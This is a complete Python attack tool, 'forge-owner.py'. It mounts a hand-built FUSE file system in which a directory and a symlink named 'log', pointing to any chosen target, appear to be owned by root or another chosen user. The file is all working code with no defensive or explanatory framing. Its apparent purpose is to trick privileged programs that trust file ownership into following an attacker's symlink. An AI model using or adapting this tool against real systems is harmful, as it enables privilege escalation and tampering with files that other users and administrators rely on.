#!/usr/bin/env python3
"""forge-owner.py DIRECTORY UID TARGET: mounts a FUSE file system of that user there.

All users may use it. Its directory and its only file, the link "log" to the target, seem to belong
to root.
"""
import ctypes, os, struct, sys

directory, user, target = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
device = os.open("/dev/fuse", os.O_RDWR)
libc = ctypes.CDLL(None, use_errno=True)
options = f"fd={device},rootmode=40000,user_id={user},group_id={user},allow_other".encode()
if libc.mount(b"forged", directory.encode(), b"fuse.forged", 0, options) != 0:
    sys.exit(f"mount: {os.strerror(ctypes.get_errno())}")
os.setresuid(user, user, user)

LOOKUP, FORGET, GETATTR, READLINK, INIT, BATCH_FORGET = 1, 2, 3, 5, 26, 42


def attributes(node):
    mode, size = (0o40755, 0) if node == 1 else (0o120777, len(target))
    return struct.pack("<6Q10I", node, size, *[0] * 4, *[0] * 3, mode, 1, 0, 0, 0, 4096, 0)


while True:
    try:
        request = os.read(device, 1 << 20)
    except OSError:
        break
    opcode, unique, node = struct.unpack_from("<IQQ", request, 4)
    answer, error = b"", 0
    if opcode == INIT:
        answer = struct.pack("<IIIIHHIIHHI7I", 7, 31, 0, 0, 0, 0, 4096, 0, 0, 0, *[0] * 8)
    elif opcode == LOOKUP and request[40:] == b"log\0":
        answer = struct.pack("<QQQQII", 2, *[0] * 5) + attributes(2)
    elif opcode == GETATTR:
        answer = struct.pack("<QII", 0, 0, 0) + attributes(node)
    elif opcode == READLINK:
        answer = target
    else:
        error = -2
    if opcode not in (FORGET, BATCH_FORGET):
        os.write(device, struct.pack("<IiQ", 16 + len(answer), error, unique) + answer)
